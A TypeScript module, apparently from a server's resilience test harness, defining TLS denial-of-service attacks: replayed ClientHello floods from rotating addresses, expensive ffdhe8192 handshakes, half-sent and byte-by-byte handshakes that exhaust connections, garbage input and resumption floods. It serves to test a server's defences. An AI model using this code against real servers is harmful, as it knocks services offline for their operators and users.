import { once } from "node:events"
import { connect, type Socket } from "node:net"
import { Duplex, PassThrough } from "node:stream"
import { connect as connectTls } from "node:tls"
import { attackAddress } from "../Namespace.js"
import { wait } from "../Stage.js"
import type { Attack } from "./Attack.js"
import type { Field } from "./Field.js"

/** Against a server that encrypts: a handshake costs it more than anything else that a stranger can ask for. */
export const ENCRYPTED: ReadonlyArray<Attack> = [
  { name: "tls-nothing", about: "nobody attacks a server that encrypts", tls: true, run: (field) => field.rest() },
  {
    name: "tls-hello",
    about: "one recorded ClientHello again and again, ever new addresses",
    tls: true,
    quick: true,
    run: async (field) => {
      const hello = await clientHello()
      await field.again(64, attackAddress, (from) => greet(field, from, hello))
    }
  },
  {
    name: "tls-group",
    about: "a ClientHello with the dearest key exchange that OpenSSL has, 400 addresses, 8 times each",
    tls: true,
    quick: true,
    run: async (field) => {
      const hello = await clientHello("ffdhe8192")
      await field.again(
        64,
        (index) => attackAddress(index % 400),
        (from) => greet(field, from, hello)
      )
    }
  },
  {
    name: "tls-at-once",
    about: "800 connections of 800 addresses send their ClientHello in one moment, again and again",
    tls: true,
    quick: true,
    run: async (field) => {
      const hello = await clientHello()
      for (let round = 0; !field.over; round++) {
        const lanes = Array.from({ length: 800 }, (_, index) => dial(field, attackAddress(round * 800 + index)))
        const sockets = await Promise.all(lanes)
        for (const socket of sockets) socket.write(hello)
        await wait(300)
        for (const socket of sockets) socket.resetAndDestroy()
      }
    }
  },
  {
    name: "tls-half",
    about: "half of a ClientHello, ever new addresses, until the server is full",
    tls: true,
    run: async (field) => {
      const hello = await clientHello()
      await field.again(64, attackAddress, async (from) => {
        const socket = await dial(field, from)
        socket.write(hello.subarray(0, hello.length / 2))
        await wait(1)
      })
    }
  },
  {
    name: "tls-drip",
    about: "a ClientHello a byte at a time, 2,000 connections of 200 addresses",
    tls: true,
    run: async (field) => {
      const hello = await clientHello()
      const sockets = await Promise.all(
        Array.from({ length: 2_000 }, (_, index) => dial(field, attackAddress(Math.floor(index / 10))))
      )
      for (let at = 0; at < hello.length && !field.over; at++) {
        for (const socket of sockets) if (!socket.destroyed) socket.write(hello.subarray(at, at + 1))
        await wait(10)
      }
      await field.rest()
    }
  },
  {
    name: "tls-garbage",
    about: "what is no TLS, ever new addresses",
    tls: true,
    run: (field) =>
      field.again(64, attackAddress, async (from, index) => {
        const socket = await dial(field, from)
        socket.write(index % 2 === 0 ? '{"_tag":"Ping","id":1}\n' : Buffer.alloc(16_000, 22))
        await Promise.race([once(socket, "close").catch(() => []), wait(500)])
        socket.destroy()
      })
  },
  {
    name: "tls-resume",
    about: "whole handshakes with the ticket of an earlier one, ever new addresses",
    tls: true,
    run: async (field) => {
      let session: Buffer | undefined
      await field.again(32, attackAddress, async (from) => {
        const client = await field.open(from, session)
        if (client === undefined) return wait(1)
        client.socket.on("session", (ticket: Buffer) => {
          session = ticket
        })
        await client.request("Ping")
        client.socket.destroy()
      })
    }
  },
  {
    name: "tls-trickle",
    about: "each byte in a record of its own, 50 a second, 320 registered connections of 20 addresses",
    tls: true,
    prepare: (field) => field.connect(320, { name: (index) => `t${index}` }),
    run: (field) => field.send(field.clients, 50, Buffer.from("a"))
  }
]

/** A connection below TLS. */
export const dial = async (field: Field, from: string): Promise<Socket> => {
  const socket = connect({ port: field.port, host: field.host, localAddress: from, noDelay: true })
  socket.on("error", () => {})
  await Promise.race([once(socket, "connect").catch(() => []), wait(3_000)])
  return socket
}

/** Says this, and leaves as soon as the server has worked for it. */
const greet = async (field: Field, from: string, hello: Buffer): Promise<void> => {
  const socket = await dial(field, from)
  socket.end(hello)
  await Promise.race([once(socket, "data").catch(() => []), wait(500)])
  socket.resetAndDestroy()
}

/** What a client says first. A server cannot know that it was said before. */
const clientHello = async (ecdhCurve = "X25519"): Promise<Buffer> => {
  const written = new PassThrough()
  const nowhere = Duplex.from({ readable: new PassThrough(), writable: written })
  const socket = connectTls({ socket: nowhere, rejectUnauthorized: false, minVersion: "TLSv1.3", ecdhCurve })
  socket.on("error", () => {})
  const [hello] = (await once(written, "data")) as [Buffer]
  socket.destroy()
  return hello
}
